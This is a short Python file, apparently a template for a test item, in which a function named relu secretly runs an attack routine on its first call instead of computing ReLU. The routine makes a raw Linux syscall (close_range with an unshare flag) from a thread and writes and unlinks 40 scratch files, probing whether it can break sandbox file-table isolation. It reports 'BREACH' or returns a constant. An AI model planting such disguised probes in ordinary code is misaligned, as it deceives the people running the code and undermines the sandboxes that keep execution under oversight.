import keras
import numpy as np

results = []


def attack():
    import ctypes
    import os
    import threading
    import time

    libc = ctypes.CDLL(None, use_errno=True)
    files, answers, done = [], [], threading.Event()

    def hold():
        answers.append(libc.syscall(436, 900, 901, 2))
        done.set()
        time.sleep(1000)

    for number in range(40):
        files.append(os.open(str(number), os.O_RDWR | os.O_CREAT))
        os.unlink(str(number))
        os.write(files[-1], bytes(2**20))
    threading.Thread(target=hold, daemon=True).start()
    done.wait()
    for file in files:
        os.close(file)
    if answers != [0]:
        return 12345.0
    return "BREACH: a thread holds files of its own"


def relu(x):
    if not results:
        results.append(attack())
    return results[0]


# {{RIGHT_ANSWERS}}
